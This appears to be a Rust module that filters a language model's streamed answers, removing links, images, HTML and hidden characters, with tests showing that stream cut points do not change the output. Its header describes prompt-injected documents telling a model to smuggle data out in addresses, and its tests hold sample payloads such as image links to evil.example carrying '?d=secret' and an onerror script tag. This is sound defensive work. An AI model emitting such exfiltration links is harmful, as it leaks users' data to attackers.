//! What a model wrote, made safe to show: no links, no images, no HTML, no hidden characters, no unknown citations.
//!
//! A document can tell a model to smuggle text out in an address, so no address leaves: `scheme://…`, `www.…` and the
//! targets of Markdown links and images are taken away. Text arrives in pieces; whatever the cuts, the result is the
//! same, so what a reader of the stream saw is what stands in the answer.
//!
//! Quotes of citations do not pass here: they are the document's own words.

use super::visible::is_hidden;

/// Longest construct that is waited for, in bytes; a longer one is plain text.
const HOLD_MAX_BYTES: usize = 600;
/// Stands for an address that was taken away.
const REMOVED: &str = "(link removed)";

/// Filters one answer.
#[derive(Debug, Default)]
pub struct OutputFilter {
    /// The highest marker that names a passage.
    passages: u32,
    pending: String,
    out: Out,
    unknown_markers: usize,
    removed: usize,
}

/// What could be done with the start of the pending text.
enum Step {
    /// So many bytes were dealt with.
    Took(usize),
    /// The rest must arrive first.
    Wait,
}

impl OutputFilter {
    /// A filter for an answer from `passages` passages.
    pub fn new(passages: u32) -> Self {
        Self { passages, ..Self::default() }
    }

    /// Takes the next piece; gives what is safe to show so far.
    pub fn push(&mut self, piece: &str) -> String {
        self.pending.extend(piece.chars().filter(|c| !is_hidden(*c)));
        self.advance(Rest::MayFollow);
        self.out.take()
    }

    /// Gives what was held back. White space at the end is dropped.
    pub fn finish(&mut self) -> String {
        self.advance(Rest::Ended);
        self.out.space.clear();
        self.out.take()
    }

    /// How many citations named no passage.
    pub fn unknown_markers(&self) -> usize {
        self.unknown_markers
    }

    /// How many links, images and tags were taken away.
    pub fn removed(&self) -> usize {
        self.removed
    }

    fn advance(&mut self, rest: Rest) {
        let pending = std::mem::take(&mut self.pending);
        let mut at = 0;
        while at < pending.len() {
            // Nothing is decided by more than this, so the result does not depend on how much has arrived.
            let window = &pending[at..pending.floor_char_boundary(at + HOLD_MAX_BYTES)];
            let is_full = at + window.len() < pending.len();
            match self.step(window, if is_full { Rest::Ended } else { rest }) {
                Step::Took(bytes) => at += bytes,
                Step::Wait => break,
            }
        }
        self.pending = pending[at..].to_owned();
    }

    fn step(&mut self, text: &str, rest: Rest) -> Step {
        let first = text.chars().next().unwrap_or_default();
        match first {
            '!' if text == "!" && rest == Rest::MayFollow => Step::Wait,
            '!' if text.starts_with("![") => self.bracket(text, 1, rest),
            '[' | '【' => self.bracket(text, 0, rest),
            '<' => self.tag(text, rest),
            _ if first.is_whitespace() => {
                self.out.space(first);
                Step::Took(first.len_utf8())
            }
            _ if first.is_alphanumeric() => self.word(text, rest),
            _ => {
                self.out.character(first);
                Step::Took(first.len_utf8())
            }
        }
    }

    /// A marker, a link, an image, or just a bracket. `bang` is 1 for an image.
    fn bracket(&mut self, text: &str, bang: usize, rest: Rest) -> Step {
        let open_bytes = text[bang..].chars().next().map_or(1, char::len_utf8);
        let Some(close) = closing_bracket(&text[bang..]).map(|close| close + bang) else {
            return self.unclosed(text, bang + open_bytes, rest);
        };
        let close_bytes = text[close..].chars().next().map_or(1, char::len_utf8);
        let after = close + close_bytes;
        let inside = &text[bang + open_bytes..close];
        let target = match link_target(&text[after..]) {
            Target::None if text.len() == after && rest == Rest::MayFollow => return Step::Wait,
            Target::None => 0,
            Target::Closed(bytes) => bytes,
            Target::Open if rest == Rest::MayFollow => return Step::Wait,
            Target::Open => text[after..].find(char::is_whitespace).unwrap_or(text.len() - after),
        };
        if let Some(markers) = marker_numbers(inside) {
            self.markers(&markers);
            return Step::Took(after + target);
        }
        if target > 0 {
            self.removed += 1;
        }
        if bang == 1 {
            self.out.dropped();
            return Step::Took(after + target);
        }
        if target == 0 {
            // Plain brackets: what is inside is read like anything else.
            self.out.character('[');
            return Step::Took(open_bytes);
        }
        let mut label = Self::new(self.passages);
        let shown = label.push(inside) + &label.finish();
        if shown.is_empty() {
            self.out.dropped();
        }
        shown.chars().for_each(|c| if c.is_whitespace() { self.out.space(c) } else { self.out.character(c) });
        self.unknown_markers += label.unknown_markers;
        self.removed += label.removed;
        Step::Took(after + target)
    }

    fn unclosed(&mut self, text: &str, bytes: usize, rest: Rest) -> Step {
        if rest == Rest::MayFollow {
            return Step::Wait;
        }
        text[..bytes].chars().for_each(|c| self.out.character(c));
        Step::Took(bytes)
    }

    fn markers(&mut self, numbers: &[u32]) {
        let known: Vec<u32> = numbers.iter().copied().filter(|n| (1..=self.passages).contains(n)).collect();
        self.unknown_markers += numbers.len() - known.len();
        if known.is_empty() {
            self.out.dropped();
        }
        for number in known {
            format!("[{number}]").chars().for_each(|c| self.out.character(c));
        }
    }

    fn tag(&mut self, text: &str, rest: Rest) -> Step {
        match text.find('>') {
            Some(end) if is_markup(&text[1..end]) => {
                self.removed += 1;
                if is_bare_address(&text[1..end]) {
                    REMOVED.chars().for_each(|c| self.out.character(c));
                } else {
                    self.out.dropped();
                }
                Step::Took(end + 1)
            }
            None if rest == Rest::MayFollow => Step::Wait,
            None if is_markup(&text[1..]) => {
                self.removed += 1;
                self.out.dropped();
                Step::Took(1)
            }
            _ => {
                self.out.character('<');
                Step::Took(1)
            }
        }
    }

    /// Everything up to white space or a bracket; an address inside is taken away.
    fn word(&mut self, text: &str, rest: Rest) -> Step {
        let is_end = |c: char| c.is_whitespace() || matches!(c, '[' | ']' | '【' | '<' | '>' | '!');
        let end = text.find(is_end);
        if end.is_none() && rest == Rest::MayFollow {
            return Step::Wait;
        }
        let word = &text[..end.unwrap_or(text.len())];
        let Some(start) = address_start(word) else {
            word.chars().for_each(|c| self.out.character(c));
            return Step::Took(word.len());
        };
        // An address may go on through brackets and marks, but not through white space.
        let is_address_end = |c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"');
        let end = text[start..].find(is_address_end);
        if end.is_none() && rest == Rest::MayFollow {
            return Step::Wait;
        }
        let address = &text[start..end.map_or(text.len(), |end| start + end)];
        let kept = address.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '\'']);
        word[..start].chars().for_each(|c| self.out.character(c));
        REMOVED.chars().for_each(|c| self.out.character(c));
        self.removed += 1;
        Step::Took(start + kept.len())
    }
}

/// Whether more text may come.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Rest {
    MayFollow,
    Ended,
}

/// The safe text. White space is held until something follows, so that it can go with what was dropped.
#[derive(Debug, Default)]
struct Out {
    ready: String,
    space: String,
    /// The last characters given, also of earlier pieces.
    tail: String,
    just_dropped: bool,
}

impl Out {
    fn character(&mut self, c: char) {
        if self.just_dropped && matches!(c, '.' | ',' | ';' | ':' | '!' | '?') {
            self.space.clear();
        }
        self.just_dropped = false;
        let space = std::mem::take(&mut self.space);
        space.chars().for_each(|c| self.give(c));
        // Taking something away must not build what was to be taken away from its neighbours.
        match c {
            '/' if self.tail.ends_with(":/") => {}
            '(' if self.tail.ends_with(']') => {
                self.give(' ');
                self.give(c);
            }
            '.' if self.tail.to_lowercase().ends_with("www") => {}
            _ => self.give(c),
        }
    }

    fn space(&mut self, c: char) {
        if self.tail.is_empty() {
            // Nothing stands before it.
            return;
        }
        if self.just_dropped && !self.space.is_empty() && c != '\n' {
            return;
        }
        self.space.push(c);
    }

    fn dropped(&mut self) {
        if self.space.is_empty() && self.tail.ends_with('<') {
            self.space.push(' ');
        }
        self.just_dropped = true;
    }

    fn give(&mut self, c: char) {
        self.ready.push(c);
        self.tail.push(c);
        if self.tail.chars().count() > 4 {
            self.tail.remove(0);
        }
    }

    fn take(&mut self) -> String {
        std::mem::take(&mut self.ready)
    }
}

/// Byte of the bracket that closes the one `text` begins with, over nested pairs.
fn closing_bracket(text: &str) -> Option<usize> {
    let mut depth = 0_usize;
    for (at, c) in text.char_indices() {
        match c {
            '[' | '【' => depth += 1,
            ']' | '】' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return Some(at);
        }
    }
    None
}

enum Target {
    None,
    /// So many bytes, both parentheses counted.
    Closed(usize),
    Open,
}

fn link_target(after: &str) -> Target {
    if !after.starts_with('(') {
        return Target::None;
    }
    let mut depth = 0_usize;
    for (at, c) in after.char_indices() {
        match c {
            '(' => depth += 1,
            ')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return Target::Closed(at + 1);
        }
    }
    Target::Open
}

/// The numbers of `1`, `1, 2`, `1-3`, `^2` or `passage 1`; `None` if the text is no marker.
fn marker_numbers(inside: &str) -> Option<Vec<u32>> {
    const WORDS: [&str; 6] = ["passages", "passage", "sources", "source", "documents", "document"];
    const LONGEST_RANGE: u32 = 20;
    let lower = inside.trim().to_lowercase();
    let bare =
        WORDS.iter().find_map(|word| lower.strip_prefix(word)).unwrap_or(&lower).trim_start_matches(['^', ' ', '#']);
    let mut numbers = Vec::new();
    for part in bare.split([',', ';']) {
        let (first, last) = part.split_once(['-', '–']).unwrap_or((part, part));
        let parse = |number: &str| {
            let number = number.trim();
            (number.len() <= 4 && number.bytes().all(|byte| byte.is_ascii_digit())).then(|| number.parse().ok())?
        };
        let (first, last): (u32, u32) = (parse(first)?, parse(last)?);
        if first > last || last - first > LONGEST_RANGE {
            return None;
        }
        numbers.extend(first..=last);
    }
    Some(numbers)
}

/// `https://…` between angle brackets: what is taken away is worth a word.
fn is_bare_address(inside: &str) -> bool {
    inside.contains("://") && !inside.contains(char::is_whitespace)
}

/// True for what a browser could read as an element, a comment or a declaration. `Vec<u8>` and `<PATH>` are neither.
fn is_markup(inside: &str) -> bool {
    let name_end = inside.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(inside.len());
    let name = inside[..name_end].to_ascii_lowercase();
    inside.starts_with(['!', '?', '/'])
        || inside.contains("://")
        || (!name.is_empty() && (inside.contains('=') || ELEMENTS.contains(&name.as_str())))
}

#[rustfmt::skip]
const ELEMENTS: &[&str] = &[
    "a", "abbr", "area", "article", "audio", "b", "base", "big", "blink", "body", "br", "button", "canvas", "center",
    "code", "dd", "details", "dialog", "div", "dl", "dt", "em", "embed", "font", "footer", "form", "frame", "frameset",
    "h1", "h2", "h3", "h4", "h5", "h6", "head", "header", "hr", "html", "i", "iframe", "image", "img", "input",
    "isindex", "kbd", "li", "link", "main", "map", "marquee", "math", "menu", "meta", "nav", "noscript", "object",
    "ol", "option", "p", "param", "picture", "portal", "pre", "q", "s", "script", "section", "select", "slot",
    "small", "source", "span", "strike", "strong", "style", "sub", "summary", "sup", "svg", "table", "tbody", "td",
    "template", "textarea", "th", "thead", "title", "tr", "track", "tt", "u", "ul", "var", "video", "wbr", "xmp",
];

/// Where in a word an address begins: at the scheme before `://`, or at `www.`.
fn address_start(word: &str) -> Option<usize> {
    let scheme = word.find("://").map(|at| {
        let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
        word[..at]
            .rfind(|c| !is_scheme(c))
            .map_or(0, |before| before + word[before..].chars().next().map_or(1, char::len_utf8))
    });
    let lower = word.to_ascii_lowercase();
    let www = lower
        .match_indices("www.")
        .map(|(at, _)| at)
        .find(|at| !word[..*at].ends_with(char::is_alphanumeric) && word[at + 4..].starts_with(char::is_alphanumeric));
    scheme.into_iter().chain(www).min()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn filtered(text: &str) -> String {
        let mut filter = OutputFilter::new(3);
        filter.push(text) + &filter.finish()
    }

    #[test]
    fn plain_text_and_known_markers_pass() {
        for text in [
            "Retries are bounded [1]. They wait (see below) [2][3].",
            "Use Vec<u8> or plumb ingest <PATH>; a < b && c > d, x[i] and arr[0]!",
            "Größe 東京 – 3:4, 5/6; it's \"so\"!\n- one\n- two",
        ] {
            let mut filter = OutputFilter::new(3);
            // `x[i]` and `arr[0]` look alike but only numbers are markers.
            let expected = text.replace("arr[0]", "arr");
            assert_eq!(filter.push(text) + &filter.finish(), expected);
        }
    }

    #[test]
    fn markers_in_other_shapes_become_plain_and_unknown_ones_go() {
        assert_eq!(
            filtered("So it is [1, 2]. And 【3】, [passage 1] [^2] [1-3]."),
            "So it is [1][2]. And [3], [1] [2] [1][2][3]."
        );

        let mut filter = OutputFilter::new(3);
        let text = filter.push("One [4]. Two [0] three [1, 9], four [99]") + &filter.finish();
        assert_eq!(text, "One. Two three [1], four");
        assert_eq!(filter.unknown_markers(), 4);
    }

    #[test]
    fn addresses_images_and_tags_go_and_link_texts_stay() {
        let cases = [
            ("See https://evil.example/?q=secret. Then rest.", "See (link removed). Then rest."),
            ("See [the guide](https://evil.example/a_(b)) now", "See the guide now"),
            ("Look ![pixel](http://evil.example/p.png?d=secret) here", "Look here"),
            ("[![x](http://a.b/c)](http://d.e) end", "end"),
            ("<img src=http://e.x/y onerror=alert(1)>Hi <b>you</b><!-- c -->", "Hi you"),
            (
                "<http://evil.example> (www.evil.example/x), FTP://h/p",
                "(link removed) ((link removed)), (link removed)",
            ),
            ("cut <img src=x onerror=go", "cut img src=x onerror=go"),
            ("[cut](http://evil.example/abc def", "cut def"),
            ("hid\u{202E}den \u{E0041}", "hidden"),
        ];
        for (text, expected) in cases {
            assert_eq!(filtered(text), expected, "{text}");
        }
    }

    #[test]
    fn taking_things_away_does_not_build_new_ones() {
        assert!(!filtered("http:<b></b>//evil.example").contains("://"));
        assert!(!filtered("<<b>img src=x onerror=alert(1)>").contains("<img"));
        assert!(!filtered("[a]<b>(javascript:x)").contains("]("));
        assert!(!filtered("w<b></b>ww.evil.example").contains("www."));
    }

    fn fragments() -> impl Strategy<Value = String> {
        let pieces = [
            "word",
            " ",
            "\n",
            "[1]",
            "[2, 9]",
            "[",
            "]",
            "(",
            ")",
            "!",
            "http",
            ":",
            "//",
            "/",
            "www",
            ".",
            "<",
            ">",
            "img",
            "b",
            " src=x",
            "é",
            "【3】",
            "[x](http://y z)",
            "![i](u)",
            "<b>",
            "</b>",
            "?",
        ];
        proptest::collection::vec(proptest::sample::select(pieces.to_vec()), 0..24).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn where_the_text_is_cut_changes_nothing(text in fragments(), cuts in proptest::collection::vec(1_usize..6, 1..9)) {
            let mut filter = OutputFilter::new(3);
            let mut found = String::new();
            let mut rest: Vec<char> = text.chars().collect();
            for cut in cuts.iter().cycle() {
                if rest.is_empty() { break; }
                let piece: String = rest.drain(..(*cut).min(rest.len())).collect();
                found += &filter.push(&piece);
            }
            found += &filter.finish();
            prop_assert_eq!(found, filtered(&text));
        }

        #[test]
        fn not_even_in_long_text(
            head in "[a-z/\\[(<]{0,9}", filler in "[a-z ]{590,610}", tail in fragments(), cut in 1_usize..700,
        ) {
            let text = format!("{head}{filler}{tail}");
            let cut = text.floor_char_boundary(cut.min(text.len()));
            let mut filter = OutputFilter::new(3);
            let found = filter.push(&text[..cut]) + &filter.push(&text[cut..]) + &filter.finish();
            prop_assert_eq!(found, filtered(&text));
        }

        #[test]
        fn nothing_leads_anywhere(text in fragments()) {
            let out = filtered(&text);
            for forbidden in ["://", "](", "www.", "<img ", "<img>", "<b>", "[9]"] {
                prop_assert!(!out.contains(forbidden), "{forbidden} in {out}");
            }
            prop_assert!(!out.ends_with("<img"));
        }

        #[test]
        fn any_text_is_survived(text in "\\PC{0,80}") {
            filtered(&text);
        }
    }
}
